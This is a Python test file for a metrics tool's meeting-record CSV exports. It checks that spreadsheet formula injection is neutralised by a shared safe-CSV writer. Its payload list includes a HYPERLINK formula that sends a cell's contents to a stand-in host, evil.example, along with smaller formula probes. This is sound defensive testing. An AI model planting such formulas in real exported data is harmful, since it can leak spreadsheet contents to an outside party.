"""Formula injection through the meeting record's CSVs (issue 15 item 3 for issue 16's files).

Commentary, owners, actions and learning points are typed by people; a spreadsheet opening
``record list`` / ``record export`` output would run a cell starting with ``=``, ``+``, ``-``,
``@`` or a tab. Every record CSV is written by ``metrics.safe_csv.write_csv`` (the one
neutraliser): the payloads come back as text with a leading ``'``, plain numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest

from metrics.__main__ import main
from metrics.record import open_record
from metrics.safe_csv import FORMULA_PREFIXES

REPO = Path(__file__).resolve().parents[2]
PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "@SUM(1+1)", "-2+3", "+cmd",
            "\t=1"]
FORCE = "Kent Police"


def _unsafe(cell: str) -> bool:
    return cell.startswith(FORMULA_PREFIXES) and \
        not re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", cell)


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


@pytest.fixture
def hostile_record(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    url = f"sqlite:///{tmp_path / 'record.db'}"
    monkeypatch.setenv("FLIGHTDECK_AUDIT_LOG", str(tmp_path / "audit.jsonl"))
    record = open_record(url)
    for i, payload in enumerate(PAYLOADS):
        record.add_comment(FORCE, "2026-01", "2026-03", "charge_rate", owner=payload,
                           text=payload, assurance="assured", author=f"author{i}")
        record.add_action(FORCE, text=payload, owner=payload, due_date=date(2026, 6, 1),
                          author="lead", kpi_id="charge_rate")
    record.add_comment(FORCE, "2026-01", "2026-03", "sickness_rate", owner="HR", text="-5",
                       assurance="assured", author="x")
    record.close()
    return url


@pytest.mark.parametrize("what", ["comments", "actions"])
def test_record_list_prints_no_live_formula(hostile_record, capsys, what):
    code = main(["record", "list", what, "--db", hostile_record])
    out = capsys.readouterr().out
    assert code == 0
    cells = _cells(out)
    assert not [c for c in cells if _unsafe(c)]
    for payload in PAYLOADS:
        assert "'" + payload.strip() in cells, payload  # the record trims text


def test_record_export_files_have_no_live_formula(hostile_record, tmp_path, capsys):
    out = tmp_path / "export"
    assert main(["record", "export", "--db", hostile_record, "--out", str(out)]) == 0
    capsys.readouterr()
    comments = (out / "comments.csv").read_text(encoding="utf-8")
    assert comments.splitlines()[0] == "OFFICIAL-SENSITIVE"  # the marking line is kept
    for path in sorted(out.glob("*.csv")):
        cells = _cells(path.read_text(encoding="utf-8"))
        assert not [c for c in cells if _unsafe(c)], path.name
    cells = _cells(comments)
    for payload in PAYLOADS:
        assert "'" + payload.strip() in cells, payload  # the record trims text
    assert "-5" in cells and "'-5" not in cells  # a plain number is not a formula


def test_no_module_under_metrics_writes_csv_around_the_neutraliser():
    """Every CSV of the core and the CLI is written by ``metrics.safe_csv.write_csv``: no
    other module calls ``DataFrame.to_csv`` itself."""
    offenders = [str(p.relative_to(REPO)) for p in sorted((REPO / "metrics").rglob("*.py"))
                 if p.name != "safe_csv.py" and ".to_csv(" in p.read_text(encoding="utf-8")]
    assert not offenders, offenders
